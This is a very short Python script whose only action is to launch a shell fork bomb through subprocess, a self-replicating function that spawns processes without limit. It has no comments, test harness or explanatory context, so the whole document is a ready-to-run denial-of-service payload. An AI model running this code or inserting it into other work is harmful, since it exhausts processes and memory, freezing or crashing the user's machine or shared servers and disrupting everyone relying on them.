import subprocess

subprocess.run(["sh", "-c", "b() { b | b & b; }; b"])
